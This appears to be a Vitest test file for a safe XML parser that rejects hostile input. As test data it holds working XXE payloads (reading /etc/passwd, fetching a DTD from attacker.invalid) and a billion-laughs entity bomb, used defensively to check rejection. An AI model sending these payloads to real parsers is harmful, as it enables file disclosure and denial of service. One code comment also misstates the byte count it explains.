import { describe, expect, it } from 'vitest';
import { XmlParseError, XmlSecurityError, parseXmlSafely } from '../../../src/carriers/xml/safe-xml.js';

/** Runs `fn`, expecting a throw; returns the error so tests can inspect it. */
function thrown(fn: () => unknown): unknown {
  try {
    fn();
  } catch (error) {
    return error;
  }
  throw new Error('expected a throw');
}

describe('parseXmlSafely: hostile documents', () => {
  it('rejects an external entity (XXE) and never leaks file content', () => {
    const xxe = `<?xml version="1.0"?>
<!DOCTYPE foo [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<foo>&xxe;</foo>`;
    const error = thrown(() => parseXmlSafely(xxe));
    expect(error).toBeInstanceOf(XmlSecurityError);
    expect(String((error as Error).message)).not.toMatch(/root:/);
  });

  it('leaves an undeclared entity reference as literal text (nothing is resolved)', () => {
    const result = parseXmlSafely('<foo>&xxe;</foo>');
    expect(result).toEqual({ foo: '&xxe;' });
    expect(JSON.stringify(result)).not.toMatch(/root:/);
  });

  it('rejects billion laughs quickly', () => {
    const lol = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<lolz>&lol9;</lolz>`;
    const started = performance.now();
    expect(thrown(() => parseXmlSafely(lol))).toBeInstanceOf(XmlSecurityError);
    expect(performance.now() - started).toBeLessThan(100);
  });

  it('rejects parameter entities', () => {
    const pe = `<?xml version="1.0"?>
<!DOCTYPE data [ <!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote; ]>
<data>x</data>`;
    expect(thrown(() => parseXmlSafely(pe))).toBeInstanceOf(XmlSecurityError);
  });

  it('rejects any DOCTYPE, whatever its case, and a bare ENTITY declaration', () => {
    expect(thrown(() => parseXmlSafely('<!doctype html><html/>'))).toBeInstanceOf(XmlSecurityError);
    expect(thrown(() => parseXmlSafely('<!DOCTYPE note SYSTEM "note.dtd"><note/>'))).toBeInstanceOf(XmlSecurityError);
    expect(thrown(() => parseXmlSafely('<a><!ENTITY x "y"></a>'))).toBeInstanceOf(XmlSecurityError);
  });

  it('rejects an oversized body (default 1 MiB, and a custom cap counted in UTF-8 bytes)', () => {
    const big = `<a>${'x'.repeat(1024 * 1024)}</a>`;
    expect(thrown(() => parseXmlSafely(big))).toBeInstanceOf(XmlSecurityError);
    // 10 characters but 20 bytes: the cap is on bytes, not characters.
    const accented = `<a>${'é'.repeat(3)}</a>`;
    expect(() => parseXmlSafely(accented, { maxBytes: 20 })).not.toThrow();
    expect(thrown(() => parseXmlSafely(accented, { maxBytes: 12 }))).toBeInstanceOf(XmlSecurityError);
  });

  it('rejects deep nesting', () => {
    const deep = `${'<a>'.repeat(500)}${'</a>'.repeat(500)}`;
    expect(thrown(() => parseXmlSafely(deep))).toBeInstanceOf(XmlSecurityError);
    const tenDeep = `${'<a>'.repeat(10)}${'</a>'.repeat(10)}`;
    expect(thrown(() => parseXmlSafely(tenDeep, { maxDepth: 5 }))).toBeInstanceOf(XmlSecurityError);
    expect(() => parseXmlSafely(tenDeep)).not.toThrow();
  });
});

describe('parseXmlSafely: malformed documents', () => {
  it.each([
    ['mismatched tags', '<a><b></a>'],
    ['unclosed root', '<a>'],
    ['not XML at all', 'not xml'],
    ['empty input', ''],
    ['two roots', '<a></a><b></b>'],
    ['HTML error page', '<html><body><br></body></html>'],
  ])('%s → XmlParseError', (_name, xml) => {
    expect(thrown(() => parseXmlSafely(xml))).toBeInstanceOf(XmlParseError);
  });
});

describe('parseXmlSafely: normal documents', () => {
  it('strips namespace prefixes so SOAP and plain XML read the same', () => {
    const soap = `<?xml version="1.0" encoding="UTF-8"?>
<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:v7="http://fedex.com/ws/track/v7">
  <soapenv:Body>
    <v7:TrackReply><v7:HighestSeverity>SUCCESS</v7:HighestSeverity></v7:TrackReply>
  </soapenv:Body>
</soapenv:Envelope>`;
    expect(parseXmlSafely(soap)).toEqual({ Envelope: { Body: { TrackReply: { HighestSeverity: 'SUCCESS' } } } });
  });

  it('keeps text as strings, reads attributes, decodes predefined and numeric references only', () => {
    const xml = '<r xmlns="urn:x"><code>0174</code><t ID="A&amp;B">x &lt; y &#233;&#xE9; &nope;</t><e/></r>';
    expect(parseXmlSafely(xml)).toEqual({ r: { code: '0174', t: { '#text': 'x < y éé &nope;', '@_ID': 'A&B' }, e: '' } });
  });

  it('turns listed paths into arrays even with a single child', () => {
    const xml = '<list><item>1</item></list>';
    expect(parseXmlSafely(xml)).toEqual({ list: { item: '1' } });
    expect(parseXmlSafely(xml, { arrayPaths: ['list.item'] })).toEqual({ list: { item: ['1'] } });
  });
});
